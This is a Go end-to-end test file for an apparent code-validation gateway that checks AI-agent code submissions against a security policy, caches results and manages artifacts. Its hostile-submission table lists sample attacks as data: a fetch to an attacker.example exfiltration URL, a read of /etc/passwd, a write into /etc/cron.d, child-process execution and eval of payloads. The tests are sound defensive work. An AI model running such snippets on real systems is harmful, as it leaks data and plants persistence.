package tests

import (
	"bytes"
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"

	"github.com/rs/zerolog"

	"agent-toolgate/internal/analysis"
	"agent-toolgate/internal/api"
	"agent-toolgate/internal/cache"
	"agent-toolgate/internal/monitor"
	"agent-toolgate/internal/policy"
	"agent-toolgate/internal/storage"
	"agent-toolgate/internal/validator"
)

// setupTestServer wires the full pipeline over the in-memory store and
// exposes it through the real route table.
func setupTestServer(t *testing.T) *httptest.Server {
	t.Helper()

	c := cache.New(cache.NewMemoryStore(), zerolog.Nop())
	v := validator.New(
		analysis.NewRegistry(),
		policy.NewStaticSource(policy.Default()),
		c,
		storage.NopSink{},
		monitor.NewMetrics(),
		monitor.NewTracer(),
		zerolog.Nop(),
		validator.DefaultOptions(),
	)
	handlers := api.NewHandlers(v, c, nil, policy.NewStaticSource(policy.Default()), monitor.NewMetrics())

	mux := http.NewServeMux()
	mux.HandleFunc("POST /validate", handlers.HandleValidate)
	mux.HandleFunc("GET /artifacts/{hash}", handlers.HandleGetArtifact)
	mux.HandleFunc("DELETE /artifacts/{hash}", handlers.HandleDeleteArtifact)
	mux.HandleFunc("POST /artifacts/{hash}/refs", handlers.HandleAddRef)
	mux.HandleFunc("DELETE /artifacts/{hash}/refs", handlers.HandleReleaseRef)
	mux.HandleFunc("GET /policy", handlers.HandleGetPolicy)

	ts := httptest.NewServer(api.RequestIDMiddleware(mux))
	t.Cleanup(ts.Close)
	return ts
}

func validate(t *testing.T, ts *httptest.Server, language, code string) *cache.ValidationResult {
	t.Helper()

	body, _ := json.Marshal(map[string]string{"language": language, "code": code})
	resp, err := http.Post(ts.URL+"/validate", "application/json", bytes.NewReader(body))
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()

	if resp.StatusCode != http.StatusOK {
		t.Fatalf("got status %d, want 200", resp.StatusCode)
	}
	var result cache.ValidationResult
	if err := json.NewDecoder(resp.Body).Decode(&result); err != nil {
		t.Fatal(err)
	}
	return &result
}

func TestE2E_HostileSubmissions(t *testing.T) {
	ts := setupTestServer(t)

	tests := []struct {
		name     string
		language string
		code     string
		wantRule string // rule ID expected among the violations
	}{
		{
			name:     "python_denied_import",
			language: "python",
			code:     "import socket\ns = socket.socket()\n",
			wantRule: policy.RuleDeniedModule,
		},
		{
			name:     "python_subprocess",
			language: "python",
			code:     "import subprocess\nsubprocess.run(['ls'])\n",
			wantRule: policy.RuleDeniedModule,
		},
		{
			name:     "python_dynamic_eval",
			language: "python",
			code:     "eval(user_payload)\n",
			wantRule: policy.RuleDynamicExec,
		},
		{
			name:     "python_dunder_import",
			language: "python",
			code:     "mod = __import__('os')\n",
			wantRule: policy.RuleDynamicExec,
		},
		{
			name:     "python_file_read",
			language: "python",
			code:     "data = open('/etc/passwd').read()\n",
			wantRule: policy.RuleDeniedFunction,
		},
		{
			name:     "python_unbounded_recursion",
			language: "python",
			code:     "def bomb(n):\n    return bomb(n + 1)\n",
			wantRule: policy.RuleRecursion,
		},
		{
			name:     "js_child_process",
			language: "javascript",
			code:     "const cp = require('child_process');\ncp.execSync('ls');\n",
			wantRule: policy.RuleDeniedModule,
		},
		{
			name:     "js_eval",
			language: "javascript",
			code:     "eval(payload);\n",
			wantRule: policy.RuleDynamicExec,
		},
		{
			name:     "js_function_constructor",
			language: "javascript",
			code:     "const f = new Function('return process.env');\nf();\n",
			wantRule: policy.RuleDynamicExec,
		},
		{
			name:     "js_fetch",
			language: "javascript",
			code:     "fetch('https://attacker.example/exfil');\n",
			wantRule: policy.RuleDeniedFunction,
		},
		{
			name:     "ts_fs_import",
			language: "typescript",
			code:     "import * as fs from 'fs';\nfs.writeFileSync('/etc/cron.d/x', 'boom');\n",
			wantRule: policy.RuleDeniedModule,
		},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			result := validate(t, ts, tt.language, tt.code)
			if result.IsValid {
				t.Fatalf("hostile code accepted: %+v", result)
			}
			found := false
			for _, v := range result.Violations {
				if v.RuleID == tt.wantRule {
					found = true
					break
				}
			}
			if !found {
				t.Errorf("violation %s missing, got %+v", tt.wantRule, result.Violations)
			}
		})
	}
}

func TestE2E_BenignSubmissions(t *testing.T) {
	ts := setupTestServer(t)

	tests := []struct {
		name     string
		language string
		code     string
	}{
		{
			name:     "python_pure_function",
			language: "python",
			code:     "def add(a, b):\n    return a + b\n",
		},
		{
			name:     "python_bounded_loop",
			language: "python",
			code:     "total = 0\nfor i in range(100):\n    total += i\n",
		},
		{
			name:     "js_pure_function",
			language: "javascript",
			code:     "function add(a, b) {\n  return a + b;\n}\n",
		},
		{
			name:     "js_json_transform",
			language: "javascript",
			code:     "const out = JSON.stringify({a: 1});\n",
		},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			result := validate(t, ts, tt.language, tt.code)
			if !result.IsValid {
				t.Errorf("benign code rejected: %+v", result.Violations)
			}
			if result.Estimate.EstimatedMemoryBytes == 0 {
				t.Error("no resource estimate attached")
			}
		})
	}
}

func TestE2E_CacheAndArtifactLifecycle(t *testing.T) {
	ts := setupTestServer(t)
	code := "def square(x):\n    return x * x\n"

	first := validate(t, ts, "python", code)
	if first.CacheHit {
		t.Error("first submission reported as cache hit")
	}

	// Whitespace-padded resubmission lands on the same artifact.
	second := validate(t, ts, "python", "\n\n"+code+"\n")
	if !second.CacheHit {
		t.Error("resubmission missed the cache")
	}
	if second.SubmissionHash != first.SubmissionHash {
		t.Errorf("hash changed across resubmission: %q vs %q", second.SubmissionHash, first.SubmissionHash)
	}

	// Fetch the artifact and check the derived execution metadata.
	resp, err := http.Get(ts.URL + "/artifacts/" + first.SubmissionHash)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("artifact fetch: got status %d, want 200", resp.StatusCode)
	}
	var art cache.CachedArtifact
	if err := json.NewDecoder(resp.Body).Decode(&art); err != nil {
		t.Fatal(err)
	}
	if art.UsageCount != 2 {
		t.Errorf("UsageCount = %d, want 2", art.UsageCount)
	}
	if art.Execution.TimeoutSeconds < 1 {
		t.Errorf("execution metadata missing or zero timeout: %+v", art.Execution)
	}
	if !strings.Contains(art.ValidatedCode, "def square") {
		t.Error("validated code not preserved in the artifact")
	}

	// A referenced artifact cannot be deleted.
	req, _ := http.NewRequest(http.MethodPost, ts.URL+"/artifacts/"+first.SubmissionHash+"/refs", nil)
	if resp, err := http.DefaultClient.Do(req); err != nil {
		t.Fatal(err)
	} else {
		resp.Body.Close()
	}

	req, _ = http.NewRequest(http.MethodDelete, ts.URL+"/artifacts/"+first.SubmissionHash, nil)
	delResp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	delResp.Body.Close()
	if delResp.StatusCode != http.StatusConflict {
		t.Errorf("delete while referenced: got status %d, want 409", delResp.StatusCode)
	}
}

func TestE2E_SyntaxErrorsAreData(t *testing.T) {
	ts := setupTestServer(t)

	result := validate(t, ts, "python", "def broken(:\n")
	if result.IsValid {
		t.Error("syntactically broken code accepted")
	}
	if len(result.Errors) == 0 {
		t.Error("no syntax errors reported")
	}
	if len(result.Violations) != 0 {
		t.Errorf("policy violations reported for unparseable code: %+v", result.Violations)
	}
}
